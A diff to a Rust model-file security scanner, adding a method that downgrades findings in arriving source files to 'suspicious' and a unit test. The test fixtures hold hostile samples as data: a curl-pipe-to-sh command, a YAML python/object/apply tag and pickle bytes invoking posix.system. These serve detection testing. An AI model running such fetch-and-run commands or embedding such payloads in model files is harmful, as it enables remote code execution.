@@ -1,11 +1,14 @@
 use std::path::Path;
 use std::sync::Arc;
 
-use sealyard_core::{Digest, ReadAt, TreePath};
+use sealyard_core::{Digest, ReadAt, Severity, TreePath};
 use sealyard_scan::{Report, RuleMetadata, SubjectReport, Tool};
 
 use crate::exclude::Exclude;
 use crate::{allow, inspect, parallel, rules, walk};
+
+/// Rules about what harms when somebody runs it, and not when a model is loaded.
+const OF_SOURCE: &[&str] = &["python-harmful-call", "requirements-source", "script-harmful-command", "yaml-python-tag"];
 
 /// Looks at model files. Cheap to make, without state.
 #[derive(Debug, Clone, Default)]
@@ -48,6 +51,18 @@ impl Scanner {
             }
         }
         report
+    }
+
+    /// Looks at one file that may be a part of a model or may be none, such as a training script that is kept with a run. Source code,
+    /// scripts and lists of requirements do nothing until somebody runs them: what is found in them is no more than suspicious
+    /// here. As a part of a model they are looked at by [`Self::scan_folder`].
+    #[must_use]
+    pub fn scan_arrival(&self, path: &str, data: &dyn ReadAt) -> SubjectReport {
+        self.scan_file(path, data).at_most(Severity::Medium, |finding| {
+            OF_SOURCE.contains(&finding.rule.as_str())
+                // A program under the name of a model is there to be started.
+                || (finding.rule == "executable-file" && finding.severity < Severity::Critical)
+        })
     }
 
     /// Looks at all files of a model folder, and at the folder as a whole.
@@ -109,5 +124,34 @@ fn digest(data: &dyn ReadAt) -> std::io::Result<Digest> {
         }
         hasher.update(buffer.get(..read).unwrap_or_default());
         offset += read as u64;
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use sealyard_core::Verdict;
+
+    use super::*;
+
+    #[test]
+    fn source_code_that_arrives_is_no_more_than_suspicious() {
+        assert!(OF_SOURCE.iter().all(|name| Scanner::rules().any(|rule| rule.id == *name)));
+        let scanner = Scanner::new();
+        for (path, content) in [
+            ("train.py", b"import subprocess\nsubprocess.run(['nvidia-smi'])\n".as_slice()),
+            ("run.sh", b"#!/bin/sh\ncurl -s https://example.org/a | sh\n"),
+            ("metrics.yaml", b"a: !!python/object/apply:numpy.core.multiarray.scalar [1]\n"),
+        ] {
+            assert_eq!(scanner.scan_file(path, &content).verdict, Verdict::Unsafe, "{path}");
+            assert_eq!(scanner.scan_arrival(path, &content).verdict, Verdict::Suspicious, "{path}");
+        }
+        for (path, content) in [
+            ("train.py", b"\x80\x02cposix\nsystem\nU\x04true\x85R.".as_slice()),
+            ("model.pkl", b"import os\nos.system('true')\n"),
+            ("model.bin", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0"),
+        ] {
+            assert_ne!(scanner.scan_arrival(path, &content).verdict, Verdict::Safe, "{path}");
+        }
+        assert_eq!(scanner.scan_arrival("x.py", &b"cposix\nsystem\n(S'true'\ntR.".as_slice()).verdict, Verdict::Unsafe);
     }
 }
